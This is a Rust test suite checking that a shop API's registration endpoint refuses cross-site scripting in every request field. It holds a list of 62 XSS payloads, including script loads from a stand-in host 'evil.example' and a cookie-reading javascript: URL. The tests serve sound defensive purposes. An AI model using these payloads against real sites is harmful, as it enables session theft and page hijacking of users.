//! Script in every place a request has for text.

use serde_json::json;

use crate::{
    shop::{PASSWORD, Shop},
    sql_injection::{Places, assert_found_everywhere, escaped},
};

/// Script as it is really sent: elements, handlers, URLs that are code, and their usual disguises.
const SCRIPT: [&str; 62] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)>",
    "< script >alert(1)</ script >",
    "<script >alert(1)</script >",
    "</script><script>alert(1)",
    "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert`1`</script>",
    "<script type=module>import 'x'",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi href=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<b>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input>",
    "<style>@import '//evil.example/x.css'</style>",
    "<template><b>x</b></template>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onmouseover=alert(1)>x",
    "<b onclick = alert(1)>x</b>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a onmouseenter=alert(1)>x</a>",
    "<p onpointerover=alert(1)>x",
    "<keygen autofocus onfocus=alert(1)>",
    "<x contenteditable onblur=alert(1)>",
    "<button onclick=alert(1)>x",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "javascript:alert(1)",
    "JAVASCRIPT:alert(document.cookie)",
    "javascript:/*--></title></style>*/alert(1)",
    "data:text/html,<b>x",
    "data:text/html;base64,PHNjcmlwdD4=",
];

#[tokio::test]
async fn script_is_refused_in_every_place() {
    assert_found_everywhere(&SCRIPT, &Places::ALL, "xss_attempt").await;
}

#[tokio::test]
async fn script_in_a_name_is_refused_and_makes_no_account() {
    let shop = Shop::endless(&[]).await;
    for script in SCRIPT {
        let person = json!({"email": "ada@example.org", "password": PASSWORD, "full_name": script});
        let reply = shop.caller().post("/api/v1/auth/register", &person).await;
        assert_eq!(
            (reply.refusal(), reply.fields()),
            ((400, "xss_attempt".into()), vec!["full_name".to_owned()]),
            "{script}"
        );
    }
    assert!(shop.app.store.accounts.by_email("ada@example.org").await.unwrap().is_none());
    assert_eq!(shop.events(), vec!["xss_attempt"; SCRIPT.len()]);
}

#[tokio::test]
async fn markup_that_is_no_attack_is_still_no_name() {
    let shop = Shop::endless(&[]).await;
    for name in ["a < b", "<3", "Ada <ada>", "<b>Ada</b>", "x > y"] {
        let person = json!({"email": "ada@example.org", "password": PASSWORD, "full_name": name});
        let reply = shop.caller().post("/api/v1/auth/register", &person).await;
        assert_eq!(reply.refusal(), (400, "markup_in_name".into()), "{name}");
    }
    assert_eq!(shop.events(), Vec::<&str>::new());
}

#[tokio::test]
async fn escapes_of_json_hide_no_script() {
    let shop = Shop::endless(&[]).await;
    for script in SCRIPT {
        let escaped = escaped(script).to_uppercase().replace("\\U", "\\u");
        let body = format!("{{\"email\":\"a@b.co\",\"password\":\"x\",\"full_name\":\"{escaped}\"}}");
        let reply = shop.caller().post_raw("/api/v1/auth/register", body).await;
        assert_eq!(reply.refusal(), (400, "xss_attempt".into()), "{script}");
    }
}
